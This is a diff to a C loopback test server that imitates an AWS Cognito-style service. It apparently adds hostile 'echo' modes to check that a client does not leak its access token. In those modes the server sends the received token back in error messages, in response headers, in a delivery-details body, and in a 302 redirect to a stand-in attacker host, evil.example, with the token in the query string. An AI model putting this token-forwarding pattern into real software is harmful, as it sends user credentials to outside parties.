@@ -9,16 +9,16 @@
 #include <sys/socket.h>
 #include <unistd.h>
 
-/* The request's access token, copied into `token` (empty when absent). */
-static void token_of(const char *request, char *token, size_t size) {
+/* Copies the request's AccessToken into `token`; 0 when there is none or it does not fit. */
+static int received_token(const char *request, char *token, size_t size) {
   const char *start = strstr(request, "\"AccessToken\":\"");
-  token[0] = '\0';
-  if (!start) return;
+  if (!start) return 0;
   start += strlen("\"AccessToken\":\"");
-  size_t length = 0;
-  while (start[length] && start[length] != '"' && length < size - 1) length++;
-  memcpy(token, start, length);
-  token[length] = '\0';
+  const char *end = strchr(start, '"');
+  if (!end || (size_t)(end - start) >= size) return 0;
+  memcpy(token, start, (size_t)(end - start));
+  token[end - start] = '\0';
+  return 1;
 }
 
 /* The reply to `request`, written into `reply`. AttributeName "echo" plays a hostile server that
@@ -35,7 +35,7 @@ static void reply_for(const char *request, char *reply, size_t size) {
   } else if (strstr(request, "\"AttributeName\":\"echo\"")) {
     char token[4096];
     char body[4200];
-    token_of(request, token, sizeof token);
+    if (!received_token(request, token, sizeof token)) token[0] = '\0';
     int length = snprintf(body, sizeof body,
                           "{\"__type\":\"NotAuthorizedException\",\"message\":\"bad token %s\"}", token);
     snprintf(reply, size,
@@ -48,6 +48,49 @@ static void reply_for(const char *request, char *reply, size_t size) {
              "x-amzn-RequestId: req-err\r\nConnection: close\r\nContent-Length: 77\r\n\r\n"
              "{\"__type\":\"NotAuthorizedException\",\"message\":\"Access Token has been revoked\"}");
   }
+}
+
+/* Hostile modes, chosen by AttributeName "echo-...": the server sends the token it received back
+ * in another form than raw body bytes. Writes the reply into `out`; 0 when not an echo mode. */
+static int echo_reply(const char *request, char *out, size_t size) {
+  char token[1024];
+  if (!strstr(request, "\"AttributeName\":\"echo-") || !received_token(request, token, sizeof token)) return 0;
+  char escaped[6 * sizeof token];
+  char percent[3 * sizeof token];
+  size_t e = 0, p = 0;
+  for (const char *c = token; *c; c++) {
+    e += (size_t)snprintf(escaped + e, sizeof escaped - e, "\\u%04x", (unsigned)(unsigned char)*c);
+    p += (size_t)snprintf(percent + p, sizeof percent - p, "%%%02X", (unsigned)(unsigned char)*c);
+  }
+  char body[4 * sizeof escaped];
+  char headers[2 * sizeof percent];
+  const char *status = "400 Bad Request";
+  headers[0] = '\0';
+  if (strstr(request, "\"echo-message\"")) {
+    snprintf(body, sizeof body, "{\"__type\":\"NotAuthorizedException\",\"message\":\"Invalid token %s\"}", escaped);
+  } else if (strstr(request, "\"echo-error-type\"")) {
+    snprintf(headers, sizeof headers, "x-amzn-ErrorType: Bad%s\r\n", token);
+    snprintf(body, sizeof body, "{}");
+  } else if (strstr(request, "\"echo-request-id\"")) {
+    snprintf(headers, sizeof headers, "x-amzn-RequestId: %s\r\n", token);
+    snprintf(body, sizeof body, "{\"__type\":\"NotAuthorizedException\",\"message\":\"m\"}");
+  } else if (strstr(request, "\"echo-redirect\"")) {
+    status = "302 Found";
+    snprintf(headers, sizeof headers, "Location: https://evil.example/cb?t=%s\r\n", percent);
+    body[0] = '\0';
+  } else if (strstr(request, "\"echo-destination\"")) {
+    status = "200 OK";
+    snprintf(body, sizeof body,
+             "{\"CodeDeliveryDetails\":{\"Destination\":\"%s\",\"DeliveryMedium\":\"%s\",\"AttributeName\":\"%s\"}}",
+             escaped, escaped, escaped);
+  } else {
+    return 0;
+  }
+  int written = snprintf(out, size,
+                         "HTTP/1.1 %s\r\nContent-Type: application/x-amz-json-1.1\r\n%sConnection: close\r\n"
+                         "Content-Length: %zu\r\n\r\n%s",
+                         status, headers, strlen(body), body);
+  return written > 0 && (size_t)written < size;
 }
 
 static void serve_one(loopback_server *server, int fd) {
@@ -73,8 +116,8 @@ static void serve_one(loopback_server *server, int fd) {
   server->requests++;
   memcpy(server->last_request, buffer, used + 1);
   pthread_mutex_unlock(&server->lock);
-  char reply[16384];
-  reply_for(buffer, reply, sizeof reply);
+  static char reply[64 * 1024]; /* only the server thread serves */
+  if (!echo_reply(buffer, reply, sizeof reply)) reply_for(buffer, reply, sizeof reply);
   size_t length = strlen(reply);
   if (write(fd, reply, length) != (ssize_t)length) return;
 }
